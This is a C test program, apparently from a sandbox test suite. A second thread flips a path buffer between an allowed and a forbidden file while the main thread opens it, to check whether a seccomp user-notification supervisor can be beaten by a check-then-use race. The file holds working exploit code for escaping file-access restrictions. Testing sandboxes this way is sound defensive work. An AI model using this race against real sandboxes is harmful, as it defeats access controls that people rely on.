/*
 * toctou_open_flip.c - a thread flips the path buffer between an allowed
 * and a forbidden file while the main thread opens it in a loop.
 *
 * Usage: toctou_open_flip ALLOWED FORBIDDEN [ITERATIONS]
 *
 * A supervisor that checks the path and then lets the kernel re-read it
 * (SECCOMP_USER_NOTIF_FLAG_CONTINUE) opens the forbidden file whenever the
 * flip lands between the two reads. Natively half of the opens hit it.
 * The opens alternate between open, openat and openat2.
 */
#include <linux/openat2.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/syscall.h>

#include "hostile.h"

static char path[4096] __attribute__((aligned(64)));
static char alt[2][4096];
static atomic_int stop;

static void *flipper(void *arg)
{
	unsigned long i = 0;

	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		/* whole-buffer copies: every state is one of the two names,
		 * or (mid-copy) a mix of both */
		memcpy(path, alt[i & 1], sizeof(path));
		i++;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	struct open_how how = { .flags = O_RDONLY | O_CLOEXEC };
	unsigned long n, iters = 20000, opened = 0, errors = 0;
	double deadline;
	pthread_t t;
	int last_err = 0;

	hostile_usage(argc, 3, "toctou_open_flip ALLOWED FORBIDDEN [ITER]");
	if (argc > 3)
		iters = (unsigned long)hostile_num(argv[3]);
	if (strlen(argv[1]) >= sizeof(path) || strlen(argv[2]) >= sizeof(path))
		hostile_setup("path too long");
	snprintf(alt[0], sizeof(alt[0]), "%s", argv[1]);
	snprintf(alt[1], sizeof(alt[1]), "%s", argv[2]);
	memcpy(path, alt[0], sizeof(path));
	if (pthread_create(&t, NULL, flipper, NULL))
		hostile_setup("pthread_create");
	deadline = hostile_now() + 8.0;
	for (n = 0; n < iters && hostile_now() < deadline; n++) {
		long fd;
		int r;

		switch (n % 3) {
		case 0:
			fd = syscall(SYS_open, path, O_RDONLY | O_CLOEXEC);
			break;
		case 1:
			fd = syscall(SYS_openat, AT_FDCWD, path,
				     O_RDONLY | O_CLOEXEC);
			break;
		default:
			fd = syscall(SYS_openat2, AT_FDCWD, path, &how,
				     sizeof(how));
			break;
		}
		if (fd < 0) {
			last_err = errno;
			errors++;
			continue;
		}
		opened++;
		r = hostile_check_fd((int)fd);
		if (r > 0) {
			atomic_store(&stop, 1);
			pthread_join(t, NULL);
			hostile_reached("forbidden content after %lu opens "
					"(%lu failed)", n + 1, errors);
		}
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	printf("TRY %lu opens: %lu opened the allowed file, %lu failed\n",
	       n, opened, errors);
	hostile_blocked(last_err ? last_err : ENODATA,
			"forbidden content never read in %lu opens", n);
}
